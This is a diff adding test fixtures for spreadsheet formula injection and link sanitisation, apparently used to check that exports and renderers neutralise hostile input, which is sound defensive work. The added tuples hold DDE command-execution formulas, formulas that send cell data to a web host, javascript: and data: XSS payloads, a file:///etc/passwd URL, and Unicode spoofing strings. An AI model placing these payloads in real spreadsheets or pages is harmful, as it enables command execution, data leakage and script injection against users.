@@ -150,3 +150,67 @@ REFUSED = (
 """Texts that may not be kept: every one of them must be refused in one sentence."""
 
 HOSTILE = STORABLE + REFUSED
+
+FORMULAS = (
+    "=1+1",
+    "=1+1\n=2+2",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A9)",
+    "{=1+1}",
+    '=HYPERLINK("https://example.org?"&A1,"x")',
+    "=cmd|' /C calc'!A0",
+    '=DDE("cmd";"/C calc";"x")',
+    '=WEBSERVICE("https://example.org/"&A2)',
+    '=IMPORTXML("https://example.org","//a")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\uff1d1+1",
+    "%0A=1+1",
+    "=_xlfn.STDEV.S(1,2)",
+)
+"""Texts that a spreadsheet may take for formulas."""
+
+FOLLOWED = (
+    "https://example.org/a?b=c#d",
+    "http://example.org",
+    "mailto:press@example.org",
+    "doi:10.1000/182",
+    "urn:lex:eu:council:directive:2010-03-09;2010-19-UE",
+    "https://xn--e1afmkfd.example/",
+    "https://пример.example/договор",
+    "https://[2001:db8::1]/x",
+)
+"""Addresses that may be made links."""
+
+TEXT_ALONE = (
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "javascript://example.org/%0aalert(1)",
+    "java\tscript:alert(1)",
+    "java\nscript:alert(1)",
+    "javascript:alert(1)//x://",
+    "\u0001javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "data:text/html;base64,PHNjcmlwdD4=",
+    "vbscript:msgbox(1)",
+    "file:///etc/passwd",
+    "ftp://example.org/x",
+    "blob:https://example.org/1",
+    "https://user:secret@example.org/",
+    "https://user@example.org/",
+    "https://example.org\\@evil.example/",
+    "//example.org/x",
+    "https:///x",
+    "https://",
+    "https://[::1/",
+    'https://example.org/"onclick="alert(1)',
+    "https://example.org/<script>",
+    "https://example.org/a b",
+    "https://example.org/\u202egnp.exe",
+    "https://exa\u200bmple.org/",
+    "https://example.org/\x1b]8;;x\x1b\\",
+    "smb://example.org/x",
+)
+"""Addresses that are printed as text and never made links."""
